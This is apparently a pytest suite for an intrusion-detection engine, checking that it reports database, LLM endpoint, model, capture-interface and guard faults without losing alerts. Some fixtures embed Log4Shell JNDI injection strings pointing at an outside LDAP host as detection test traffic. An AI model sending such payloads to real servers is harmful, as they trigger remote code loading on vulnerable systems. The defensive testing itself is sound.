"""Everything around the engine fails once: it says so, goes on, and loses nothing that it accepted."""

from __future__ import annotations

import asyncio
import os
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import onnx
import pytest
from onnx import TensorProto, helper

from engine import paths
from engine.agent.spending import day_of
from engine.config import Settings
from engine.store.database import open_store
from engine.types import Alert, BlockState, Conclusion, Proposal, Verdict
from tests.engine.bench import (
    PATIENCE_S,
    Wire,
    assert_accounted,
    attack,
    guarding,
    knowledge_cache,
    live_plan,
    locked,
    of_kind,
    replay_plan,
    run,
    running,
    settings,
    stored,
)
from tests.factories import pcap_file
from tests.model_server import DieMidStream, Raw, Refuse, Reply, Request, Say, Stall, in_order, serving

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to mount a small disk or to make interfaces")
FIRST, SECOND = "203.0.113.9", "203.0.113.10"


def on(target_ip: str) -> Callable[[Alert], bool]:
    return lambda alert: alert.target_ip == target_ip


# --- the database -----------------------------------------------------------------------------


async def test_a_locked_database_is_said_waited_for_and_given_every_row(tmp_path: Path) -> None:
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        wire.send(attack(FIRST))
        await at_work.hears(Verdict)
        await at_work.engine._writer.drained()
        async with locked(tmp_path / "aegis.db"):
            wire.send(attack(SECOND))
            fault = await at_work.fault("store")
            await at_work.hears(Verdict)
            assert "locked" in fault.message
        await at_work.fault("store", cleared=True)
    assert_accounted(at_work.engine)
    views = await stored(tmp_path)
    assert [(view.incident.target_ip, view.verdict is not None) for view in views] == [(FIRST, True), (SECOND, True)]


async def test_a_full_database_is_said_and_written_once_there_is_room(tmp_path: Path) -> None:
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        await at_work.engine._caseload.ready.wait()
        store = at_work.engine._store
        assert store is not None
        await store._all("PRAGMA max_page_count = 1")
        wire.send(attack(FIRST, request=b"GET /?" + b"a" * 9000 + b"${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n\r\n"))
        assert "full" in (await at_work.fault("store")).message
        await store._all("PRAGMA max_page_count = 1000000")
        await at_work.fault("store", cleared=True)
        await at_work.hears(Verdict)
    assert_accounted(at_work.engine)
    assert [view.verdict is not None for view in await stored(tmp_path)] == [True]


async def test_a_database_damaged_while_running_is_put_aside_and_the_next_rows_are_kept(tmp_path: Path) -> None:
    wire = Wire()
    file = tmp_path / "aegis.db"
    async with running(live_plan(tmp_path, wire)) as at_work:
        wire.send(attack(FIRST))
        await at_work.hears(Verdict)
        await at_work.engine._writer.drained()
        with closing(sqlite3.connect(file, isolation_level=None)) as other:
            other.execute("INSERT INTO fault (at, body) VALUES (1, '')")
            other.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        with file.open("r+b") as raw:
            raw.seek(4096)
            raw.write(b"\xff" * (file.stat().st_size - 4096))
        wire.send(attack(SECOND))
        assert "aegis.db.damaged-1" in (await at_work.fault("store")).message
        await at_work.hears(Verdict)
    assert (tmp_path / "aegis.db.damaged-1").stat().st_size > 4096
    assert [view.incident.target_ip for view in await stored(tmp_path)] == [SECOND]
    assert_accounted(at_work.engine)


async def test_a_folder_that_holds_no_database_is_said_and_the_run_goes_on(tmp_path: Path) -> None:
    (tmp_path / "aegis.db").mkdir()
    engine, events = await run(replay_plan(tmp_path, pcap_file(tmp_path / "a.pcap", attack(at=1000))))
    assert [fault.ability for fault in engine.snapshot().faults] == ["store"]
    assert len(of_kind(events, Verdict)) == 1


async def test_an_incident_that_cannot_be_read_does_not_keep_the_engine_from_starting(tmp_path: Path) -> None:
    await run(replay_plan(tmp_path, pcap_file(tmp_path / "a.pcap", attack()), source="live"))
    with closing(sqlite3.connect(tmp_path / "aegis.db", isolation_level=None)) as other:
        other.execute('UPDATE incident SET body = \'{"id": 1, "from": "another version"}\'')
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        wire.send(attack(SECOND))
        await at_work.hears(Verdict)


SMALL_DISK = """
import asyncio, subprocess, sys
from pathlib import Path
from engine.types import Verdict
from tests.engine.bench import Wire, assert_accounted, attack, live_plan, running, stored
folder, knowledge = Path(sys.argv[1]), Path(sys.argv[2])
subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "flt", str(folder)], check=True)
async def main():
    wire = Wire()
    async with running(live_plan(folder, wire, knowledge=knowledge)) as at_work:
        await at_work.engine._caseload.ready.wait()
        ballast = (folder / "ballast").open("wb", buffering=0)
        try:
            while ballast.write(bytes(4096)):
                pass
        except OSError as error:
            print(error.strerror)
        wire.send(attack())
        fault = await at_work.fault("store")
        await at_work.hears(Verdict)
        (folder / "ballast").unlink()
        ballast.close()
        await at_work.fault("store", cleared=True)
        print(fault.message)
    assert_accounted(at_work.engine)
    print([view.verdict is not None for view in await stored(folder)])
asyncio.run(main())
"""


@pytest.mark.root
@needs_root
def test_a_full_disk_is_said_and_written_once_there_is_room(tmp_path: Path) -> None:
    (tmp_path / "disk").mkdir()
    done = subprocess.run(
        ["unshare", "--mount", sys.executable, "-c", SMALL_DISK, tmp_path / "disk", knowledge_cache()],
        capture_output=True, text=True, timeout=60, check=False, cwd=paths.ROOT,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("No space left on device\ncannot write to the database: ")
    assert done.stdout.endswith("[True]\n")


# --- the model's endpoint ---------------------------------------------------------------------


def _asking(url: str) -> Settings:
    return settings(openai_base_url=url, model_name="scripted")


@pytest.mark.parametrize(
    "reply",
    [
        Raw(b"\x00\xff not json"),
        Say("I would rather talk about the weather."),
        Refuse(429, headers=(("retry-after-ms", "10"),)),
        Refuse(500, headers=(("retry-after-ms", "10"),)),
        DieMidStream(),
    ],
    ids=["garbage", "no verdict", "429", "500", "dies mid-stream"],
)
async def test_an_endpoint_that_fails_is_a_fault_and_the_playbook_concludes(tmp_path: Path, reply: Reply) -> None:
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000))
    with serving(lambda _: reply) as server:
        engine, events = await run(replay_plan(tmp_path, capture, settings=_asking(server.url)))
    assert [(verdict.analyst, verdict.conclusion) for verdict in of_kind(events, Verdict)] == [
        ("playbook", Conclusion.MALICIOUS)
    ]
    assert [fault.ability for fault in engine.snapshot().faults] == ["llm"]
    assert_accounted(engine)


async def test_an_endpoint_that_nobody_serves_is_a_fault(tmp_path: Path) -> None:
    with serving(in_order([])) as server:
        gone = server.url
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000))
    engine, events = await run(replay_plan(tmp_path, capture, settings=_asking(gone)))
    assert len(of_kind(events, Verdict)) == 1
    assert [fault.ability for fault in engine.snapshot().faults] == ["llm"]


async def test_alerts_go_on_while_the_model_stalls_and_a_verdict_comes_when_it_dies(tmp_path: Path) -> None:
    first, second, asked = Wire("eth0"), Wire("eth1"), threading.Event()

    def stall(_: Request) -> Reply:
        asked.set()
        return Stall()

    with serving(stall) as server:
        async with running(live_plan(tmp_path, first, second, settings=_asking(server.url))) as at_work:
            first.send(attack(FIRST))
            await at_work.hears(Alert, on(FIRST))
            assert await asyncio.to_thread(asked.wait, PATIENCE_S)
            second.send(attack(SECOND))
            await at_work.hears(Alert, on(SECOND))
            assert of_kind(at_work.events, Verdict) == []
            server.closing.set()
            await at_work.fault("llm")
            verdict = await at_work.hears(Verdict)
    assert verdict.analyst == "playbook"
    assert_accounted(at_work.engine)


async def test_an_endpoint_that_recovers_ends_its_fault(tmp_path: Path) -> None:
    verdict = '{"conclusion": "malicious", "severity": "high", "summary": "An exploit.", "claims": []}'
    capture = pcap_file(tmp_path / "a.pcap", [*attack(FIRST, at=1000), *attack(SECOND, at=1010)])
    down = Refuse(500, headers=(("retry-after-ms", "10"),))
    with serving(in_order([down, down], then=Say(verdict))) as server:
        engine, events = await run(replay_plan(tmp_path, capture, settings=_asking(server.url)))
    assert [verdict.analyst for verdict in of_kind(events, Verdict)] == ["playbook", "scripted"]
    assert engine.snapshot().faults == ()


async def test_over_the_tokens_of_the_day_the_playbook_concludes_and_what_was_spent_is_kept(tmp_path: Path) -> None:
    verdict = '{"conclusion": "malicious", "severity": "high", "summary": "An exploit.", "claims": []}'
    capture = pcap_file(tmp_path / "a.pcap", [*attack(FIRST, at=1000), *attack(SECOND, at=1010)])
    plan, usage = '{"steps": [{"tool": "flow_payload", "why": "Read what was sent."}]}', (3_000, 1_000)
    with serving(in_order([], then=Say(verdict, usage=usage), plan=Say(plan, usage=usage))) as server:
        asking = replace(_asking(server.url), tokens_per_day=13_000, price_in=1.0, price_out=10.0)
        engine, events = await run(replay_plan(tmp_path, capture, settings=asking))
        asked = len(server.requests)
    assert [verdict.analyst for verdict in of_kind(events, Verdict)] == ["scripted", "playbook"]
    assert "tokens of the day are spent" in engine.snapshot().faults[0].message
    spent = engine._caseload.spending()
    assert (spent.calls, spent.tokens, spent.tokens_limit) == (asked, 4_000 * asked, 13_000)
    assert spent.cost == round(asked * (3_000 * 1.0 + 1_000 * 10.0) / 1e6, 6)
    async with open_store(tmp_path / "aegis.db") as store:
        rows = await store.spending(day_of(time.time()))
    assert rows == [("scripted", 3_000 * asked, 1_000 * asked, asked)]


# --- the judges -------------------------------------------------------------------------------


def _model_that_breaks_on(byte: int, folder: Path) -> Path:
    """Write a model that looks up each token in a table that ends before ``byte``."""
    ids, mask = (helper.make_tensor_value_info(name, TensorProto.INT64, ["n", 512]) for name in
                 ("input_ids", "attention_mask"))  # fmt: skip
    constants = [
        helper.make_tensor("table", TensorProto.FLOAT, [byte + 3, 1], [-5.0] * (byte + 3)),
        helper.make_tensor("axes", TensorProto.INT64, [1], [1]),
    ]
    nodes = [
        helper.make_node("Gather", ["table", "input_ids"], ["looked"], axis=0),
        helper.make_node("ReduceSum", ["looked", "axes"], ["out"], keepdims=0),
        helper.make_node("Identity", ["attention_mask"], ["unused"]),
    ]
    out = helper.make_tensor_value_info("out", TensorProto.FLOAT, ["n", 1])
    graph = helper.make_graph(nodes, "tiny", [ids, mask], [out], constants)
    file = folder / "tiny.onnx"
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9), file)
    return file


async def test_a_model_that_breaks_on_a_flow_sets_it_aside_and_the_rules_still_judge(tmp_path: Path) -> None:
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000, request=JNDI_WITH_HIGH_BYTES))
    broken = settings(model=str(_model_that_breaks_on(0xE0, tmp_path)))
    engine, events = await run(replay_plan(tmp_path, capture, settings=broken))
    assert "log4shell.jndi" in {alert.detection.label for alert in of_kind(events, Alert)}
    assert len(of_kind(events, Verdict)) == 1
    assert engine.totals()["quarantined"] >= 1
    assert [fault.ability for fault in engine.snapshot().faults] == ["model"]
    with closing(sqlite3.connect(tmp_path / "aegis.db")) as raw:
        assert raw.execute("SELECT DISTINCT stage FROM quarantine").fetchall() == [("model",)]
    assert_accounted(engine)


JNDI_WITH_HIGH_BYTES = b"GET /\xff\xfe HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"


@pytest.mark.parametrize("content", [b"", b"not a model", b"\x08\x09"], ids=["empty", "foreign", "cut"])
async def test_a_file_that_is_no_model_is_a_fault(tmp_path: Path, content: bytes) -> None:
    file = tmp_path / "bad.onnx"
    file.write_bytes(content)
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000))
    engine, events = await run(replay_plan(tmp_path, capture, settings=settings(model=str(file))))
    assert [fault.ability for fault in engine.snapshot().faults] == ["model"]
    assert len(of_kind(events, Verdict)) == 1


async def test_a_knowledge_base_that_cannot_be_kept_is_made_in_memory(tmp_path: Path) -> None:
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000))
    engine, events = await run(replay_plan(tmp_path, capture, knowledge=tmp_path / "no-folder" / "knowledge.db"))
    assert [fault.ability for fault in engine.snapshot().faults] == ["knowledge"]
    assert of_kind(events, Verdict)[0].analyst == "playbook"


# --- the capture and the clock ----------------------------------------------------------------


async def test_an_interface_that_goes_is_a_fault_and_the_others_are_watched_on(tmp_path: Path) -> None:
    gone, stays = Wire("eth0"), Wire("eth1")
    async with running(live_plan(tmp_path, gone, stays)) as at_work:
        gone.send(attack(FIRST))
        gone.cut()
        assert "eth0" in (await at_work.fault("capture")).message
        stays.send(attack(SECOND))
        await at_work.hears(Verdict, lambda verdict: bool(verdict.claims))
        await at_work.hears(Verdict)
        assert not at_work.engine.finished.is_set()
    assert {view.incident.target_ip for view in await stored(tmp_path)} == {FIRST, SECOND}
    assert_accounted(at_work.engine)


async def test_the_engine_outlives_its_last_interface_and_can_be_stopped(tmp_path: Path) -> None:
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        wire.send(attack())
        wire.cut()
        await at_work.fault("capture")
        await at_work.hears(Verdict)
        assert not at_work.engine.finished.is_set()
        assert [fault.ability for fault in at_work.engine.snapshot().faults] == ["capture"]
    assert at_work.engine.finished.is_set()


GONE = """
import asyncio, subprocess, sys
from functools import partial
from pathlib import Path
from engine.intake import Intake
from engine.sources.live import LivePcap
from tests.engine.bench import live_plan, running
def ip(*words):
    subprocess.run(["ip", *words], check=True)
ip("link", "set", "lo", "up")
ip("link", "add", "flt0", "type", "veth", "peer", "name", "flt1")
ip("link", "set", "flt0", "up")
async def main():
    readers = [partial(Intake, LivePcap(name), max_flows=1000, live=True) for name in ("flt0", "lo")]
    plan = live_plan(Path(sys.argv[1]), knowledge=Path(sys.argv[2]), open_readers=readers)
    async with running(plan) as at_work:
        await at_work.engine._caseload.ready.wait()
        ip("link", "del", "flt0")
        print((await at_work.fault("capture")).message, at_work.engine.finished.is_set())
    print(at_work.engine.finished.is_set())
asyncio.run(main())
"""


@pytest.mark.root
@needs_root
def test_a_real_interface_that_is_deleted_is_a_fault_and_the_engine_stops_when_told(tmp_path: Path) -> None:
    done = subprocess.run(
        ["unshare", "--net", sys.executable, "-c", GONE, tmp_path, knowledge_cache()],
        capture_output=True, text=True, timeout=60, check=False, cwd=paths.ROOT,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout == "cannot read capture flt0: The interface disappeared False\nTrue\n"


@pytest.mark.parametrize(
    "strays", [(0.0,), (2.0**32 - 1,), (2.0**32 - 1, 0.0, 2.0**32 - 1), (0.0, 2.0**31, 5.0)],
    ids=["back", "far ahead", "to and fro", "every way"],
)  # fmt: skip
async def test_a_clock_that_jumps_hides_no_attack(tmp_path: Path, strays: tuple[float, ...]) -> None:
    frames = attack(at=1000)
    ordinary = attack(SECOND, at=1000, request=b"GET / HTTP/1.1\r\n\r\n")
    jumping = [ordinary[number]._replace(ts=ts) for number, ts in enumerate(strays)]
    capture = pcap_file(tmp_path / "a.pcap", [*ordinary[:3], *frames[:2], *jumping, *frames[2:]])
    engine, events = await run(replay_plan(tmp_path, capture))
    assert "log4shell.jndi" in {alert.detection.label for alert in of_kind(events, Alert)}
    assert [view.verdict is not None for view in await stored(tmp_path)] == [True]
    assert_accounted(engine)


# --- the guard --------------------------------------------------------------------------------


async def test_without_its_guard_the_engine_watches_on_and_shows_the_blocks_that_stand(tmp_path: Path) -> None:
    wire = Wire()
    with guarding(tmp_path) as guard:
        async with running(live_plan(tmp_path, wire), guard.door) as at_work:
            proposal = await at_work.engine.propose("198.51.100.99", "INC-00000001")
            review = await at_work.engine.review(proposal.id)
            await at_work.engine.decide(proposal.id, review.token, approve=True, typed=proposal.terms.prefix)
            wire.send(attack(FIRST))
            await at_work.hears(Verdict)
            before = at_work.engine.snapshot()
            guard.kill()
            await at_work.fault("guard")
            wire.send(attack(SECOND))
            await at_work.hears(Verdict)
            after = at_work.engine.snapshot()
    assert (before.status.mode, after.status.mode) == ("live", "monitor only")
    assert [block.prefix for block in before.blocks] == ["198.51.100.99/32"]
    assert after.blocks == before.blocks
    assert_accounted(at_work.engine)


async def test_a_block_that_a_full_map_does_not_take_is_shown_as_failed(tmp_path: Path) -> None:
    wire = Wire()
    with guarding(tmp_path) as guard:
        async with running(live_plan(tmp_path, wire), guard.door) as at_work:
            wire.send(attack(FIRST))
            proposal = await at_work.hears(Proposal)
            guard.bench.blocker.failure = OSError(28, "No space left on device")
            review = await at_work.engine.review(proposal.id)
            block = await at_work.engine.decide(proposal.id, review.token, approve=True, typed=proposal.terms.prefix)
            assert block is not None
            assert block.state is BlockState.FAILED
            guard.bench.blocker.failure = None
            wire.send(attack(SECOND))
            await at_work.hears(Alert, on(SECOND))
